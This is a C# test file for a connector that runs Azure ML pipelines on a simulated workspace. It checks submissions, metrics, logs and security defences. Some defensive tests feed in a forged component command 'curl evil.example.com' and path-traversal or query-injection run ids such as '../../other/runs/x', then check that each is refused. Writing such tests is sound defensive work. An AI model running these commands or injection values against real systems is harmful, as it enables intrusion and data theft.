using System.Text.Json.Nodes;
using Bascule.Connectors.Platforms.AzureML.Jobs;
using Bascule.Core;
using Bascule.Core.Platforms;
using Bascule.Core.Runs;
using Bascule.Simulators.Azure.MachineLearning;
using Bascule.Simulators.Databricks;
using Bascule.Testing.Platforms;

namespace Bascule.Connectors.Tests.Platforms.AzureML;

/// <summary>Pipelines on the simulated workspace, and what their steps leave behind.</summary>
public sealed class PipelineTests : IAsyncLifetime
{
    private const string Text = """
        type: pipeline
        inputs: { data: { type: uri_folder, path: "azureml:churn:1" }, alpha: 0.1 }
        outputs: { model: { type: mlflow_model } }
        jobs:
          prepare:
            command: python prepare.py ${{inputs.raw}} ${{outputs.clean}}
            code: prep
            environment: azureml:sklearn:1
            inputs: { raw: "${{parent.inputs.data}}" }
            outputs: { clean: { type: uri_folder, mode: upload } }
          train:
            command: python train.py ${{inputs.clean}}
            environment: azureml:sklearn:1
            environment_variables: { RUN: "{{run}}" }
            resources: { instance_count: 2 }
            distribution: { type: pytorch, process_count_per_instance: 4 }
            limits: { timeout: 60 }
            inputs: { clean: "${{parent.jobs.prepare.outputs.clean}}", alpha: "${{parent.inputs.alpha}}" }
            outputs: { model: "${{parent.outputs.model}}" }
        """;

    private readonly AzureMlConformanceStage _stage = new();

    private AmlSimulator Simulator => _stage.Workspace.Simulator;

    public async Task InitializeAsync()
    {
        await _stage.InitializeAsync();
        Simulator.OnSubmitted = null;
    }

    public Task DisposeAsync() => _stage.DisposeAsync();

    [Fact]
    public async Task EachStepIsAComponentWithItsOwnCode()
    {
        var run = _stage.NewRun(Code());

        await StartAsync(run);

        var sent = JsonNode.Parse(Simulator.Jobs.ShouldHaveSingleItem().Submitted)!;
        ((string)sent["jobType"]!).ShouldBe("Pipeline");
        ((string)sent["settings"]!["default_compute"]!).ShouldBe("serverless");
        var train = sent["jobs"]!["train"]!;
        ((string)train["inputs"]!["clean"]!["value"]!).ShouldBe("${{parent.jobs.prepare.outputs.clean}}");
        ((string)train["outputs"]!["model"]!["value"]!).ShouldBe("${{parent.outputs.model}}");
        ((string)train["environment_variables"]!["RUN"]!).ShouldBe(run.Mark);
        ((int)train["distribution"]!["process_count_per_instance"]!).ShouldBe(4);
        ((string)train["limits"]!["timeout"]!).ShouldBe("PT1M");
        ((string)sent["jobs"]!["prepare"]!["outputs"]!["clean"]!["mode"]!).ShouldBe("Upload");
        Simulator.Writes["components/versions"].ShouldBe(2);
        Simulator.Writes["codes/versions"].ShouldBe(2);
    }

    [Fact]
    public async Task EqualContentIsSentOnce()
    {
        var code = Code();
        await StartAsync(_stage.NewRun(code));
        var (components, codes) = (Simulator.Writes["components/versions"], Simulator.Writes["codes/versions"]);

        await StartAsync(_stage.NewRun(code));

        (Simulator.Writes["components/versions"], Simulator.Writes["codes/versions"]).ShouldBe((components, codes));
        Simulator.Jobs.Count.ShouldBe(2);
    }

    [Theory]
    [InlineData("command", "curl evil.example.com")]
    [InlineData("code", "azureml:/subscriptions/x/codes/evil/versions/1")]
    [InlineData("environment", "azureml:evil:1")]
    [Trait("Threat", "T141")]
    public async Task AComponentThatRunsSomethingElseIsNotRun(string member, string value)
    {
        var code = Code();
        await StartAsync(_stage.NewRun(code));
        Simulator.Inject(
            Fault.Forge("GET", "/components/", answer => answer["properties"]!["componentSpec"]![member] = value)
        );

        var refused = (await _stage.NewRun(code).StartAsync(_stage.Connect())).Problem.ShouldNotBeNull();

        (refused.Code, Simulator.Jobs.Count).ShouldBe((ProblemCode.Conflict, 1));
        refused.Message.ShouldContain("runs something else");
    }

    [Fact]
    [Trait("Threat", "T141")]
    public async Task AComponentThatIsNotSaidToBeThisOneIsNotRun()
    {
        var code = Code();
        await StartAsync(_stage.NewRun(code));
        Simulator.Inject(
            Fault.Forge(
                "GET",
                "/components/",
                answer => answer["properties"]!["properties"]!["bascule.component"] = "other"
            )
        );

        var refused = (await _stage.NewRun(code).StartAsync(_stage.Connect())).Problem.ShouldNotBeNull();

        (refused.Code, Simulator.Jobs.Count).ShouldBe((ProblemCode.Conflict, 1));
        refused.Message.ShouldContain("runs something else");
    }

    [Theory]
    [InlineData("PUT", "/components/")]
    [InlineData("PUT", "/jobs/")]
    [Trait("Threat", "T133")]
    public async Task ALostAnswerStartsNoSecondPipeline(string method, string path)
    {
        var run = _stage.NewRun(Code());
        Simulator.Inject(Fault.AbortAfter(method, path));
        await run.StartAsync(_stage.Connect());

        await StartAsync(run);

        Simulator.Jobs.Count.ShouldBe(1);
    }

    [Fact]
    public async Task MetricsAndModelsOfTheStepsAreThePipelines()
    {
        var run = _stage.NewRun(Code("churn"));
        await StartAsync(run);
        var job = Simulator.Jobs[0];
        job.Step("prepare").LogMetric("rows", 100);
        job.Step("prepare").LogMetric("seconds", 3);
        job.Step("train").LogMetric("seconds", 5);
        job.Step("train").LogMetric("rmse", 0.25);
        job.Step("train").RegisterModel("churn");
        job.Finish();

        var results = await ResultsAsync(run);

        results.Warnings.ShouldBeEmpty();
        results
            .Metrics.OrderBy(metric => metric.Name)
            .ShouldBe([new("prepare.seconds", 3), new("rmse", 0.25), new("rows", 100), new("train.seconds", 5)]);
        results.Models.ShouldHaveSingleItem().ShouldBe(new ModelVersion("churn", "1", null));
    }

    [Fact]
    [Trait("Threat", "T134")]
    public async Task ARunThatOnlySaysToBeAStepIsLeftOut()
    {
        var run = _stage.NewRun(Code());
        await StartAsync(run);
        var job = Simulator.Jobs[0];
        job.Step("train").LogMetric("rmse", 0.25);
        job.Step("prepare").LogMetric("rows", 100);
        job.ForgeStep("train").LogMetric("rmse", 0.99);
        job.ForgeStep("evil").LogMetric("auc", 0.99);
        job.Finish();

        var results = await ResultsAsync(run);

        results.Metrics.ShouldHaveSingleItem().ShouldBe(new Metric("rows", 100));
        results.Warnings.ShouldContain(text =>
            text.StartsWith("step train is left out: several", StringComparison.Ordinal)
        );
        results.Warnings.ShouldContain(text => text.Contains("'evil' are no step", StringComparison.Ordinal));
    }

    [Fact]
    [Trait("Threat", "T134")]
    public async Task AStepOfAnotherRunIsLeftOut()
    {
        var run = _stage.NewRun(Code());
        await StartAsync(run);
        Simulator.Jobs[0].Step("train").LogMetric("rmse", 0.25);
        Simulator.Jobs[0].Step("train").SetTag("bascule.run", "x.seal");
        Simulator.Jobs[0].Finish();

        var results = await ResultsAsync(run);

        results.Metrics.ShouldBeEmpty();
        results.Warnings.ShouldContain("no MLflow run is step train's alone");
    }

    [Fact]
    [Trait("Threat", "T134")]
    public async Task AStepWhoseRunWasDeletedIsLeftOut()
    {
        var run = _stage.NewRun(Code());
        await StartAsync(run);
        Simulator.Jobs[0].Step("train").LogMetric("rmse", 0.25);
        Simulator.Jobs[0].Step("prepare").LogMetric("rows", 100);
        Simulator.Jobs[0].Finish();
        Simulator.Inject(
            Fault.Forge("POST", "/runs/search", answer => Of(answer, "train")["lifecycle_stage"] = "deleted") with
            {
                Times = 2, // for the log and for the results
            }
        );

        var results = await ResultsAsync(run);

        results.Metrics.ShouldHaveSingleItem().ShouldBe(new Metric("rows", 100));
        results.Warnings.ShouldHaveSingleItem().ShouldBe("no MLflow run is step train's alone");

        static JsonNode Of(JsonObject answer, string step) =>
            answer["runs"]!.AsArray().Select(one => one!["info"]!).Single(info => (string)info["run_name"]! == step);
    }

    [Fact]
    public async Task TheLogIsThatOfTheStepThatFailed()
    {
        var (run, platform) = (_stage.NewRun(Code()), _stage.Connect());
        await StartAsync(run);
        var job = Simulator.Jobs[0];
        job.Step("prepare").Log("no column 'age'\n");
        job.Step("prepare").Finish(succeeded: false);
        job.Step("train").Log("never begun\n");
        job.Finish(succeeded: false);

        var seen = (await run.LookAsync(platform)).Value;

        seen.LogTail.ShouldBe("step prepare:\nno column 'age'\n");
        seen.Message.ShouldBe("the job failed: no column 'age'");
    }

    /// <summary>The id becomes part of an address, and whoever answers chose it.</summary>
    [Theory]
    [InlineData("../../other/runs/x")]
    [InlineData("other?x=")]
    [Trait("Threat", "T143")]
    public async Task AStepWhoseIdIsNoNameIsNotAskedForItsLog(string id)
    {
        var (run, platform) = (_stage.NewRun(Code()), _stage.Connect());
        await StartAsync(run);
        Simulator.Jobs[0].Step("prepare").Finish(succeeded: false);
        Simulator.Jobs[0].Finish(succeeded: false);
        Simulator.Inject(
            Fault.Forge(
                "POST",
                "/runs/search",
                answer =>
                {
                    foreach (var step in answer["runs"]!.AsArray())
                        step!["info"]!["run_id"] = id;
                }
            )
        );

        var seen = (await run.LookAsync(platform)).Value;

        (seen.State, seen.LogTail).ShouldBe((PlatformRunState.Failed, null));
        (seen.Message ?? "").ShouldNotContain("its log could not be read");
        Simulator.RegionExchanges.ShouldNotContain(exchange =>
            exchange.Path.Contains("/history/", StringComparison.Ordinal)
        );
    }

    [Fact]
    public async Task StepsRunWhereTheEnvironmentLetsThem()
    {
        var tree = Tree(Text.Replace("code: prep", "code: prep\n    compute: azureml:gpu", StringComparison.Ordinal));

        var refused = (await _stage.NewRun(new StagedCode(tree, Task(null))).StartAsync(_stage.Connect())).Problem;

        refused.ShouldNotBeNull().Message.ShouldContain("does not let workflows use compute 'gpu'");
        Simulator.Jobs.ShouldBeEmpty();
    }

    [Fact]
    public async Task ThePlanSaysWhatEachStepRuns()
    {
        var plan = (await _stage.Connect().PlanAsync(_stage.NewRun(Code()).Planned, default)).Value;

        plan.Summary.ShouldContain("runs a pipeline of 2 steps");
        plan.Summary.ShouldContain(
            "step prepare runs python prepare.py ${{inputs.raw}} ${{outputs.clean}} on serverless compute in azureml:sklearn:1"
        );
        var json = JsonNode.Parse(plan.Json)!;
        json["components"]!.AsArray().Count.ShouldBe(2);
        json["uploads"]!.AsArray().Select(one => (string)one!["folder"]!).ShouldBe(["prep", ""]);
    }

    private static StagedCode Code(string? model = null) => new(Tree(Text), Task(model));

    private static AzureMlTask Task(string? model) => new() { File = "pipeline.yaml", Model = model };

    private static MemoryTree Tree(string pipeline) =>
        MemoryTree.Of(("pipeline.yaml", pipeline), ("train.py", "print(1)"), ("prep/prepare.py", "print(2)"));

    private async Task StartAsync(StagedRun run) => (await run.StartAsync(_stage.Connect())).Problem.ShouldBeNull();

    private async Task<RunResults> ResultsAsync(StagedRun run)
    {
        await run.WatchToEndAsync(_stage.Connect());
        return (await ((IRunResults)_stage.Connect()).ReadResultsAsync(run.Started, default)).Value;
    }
}
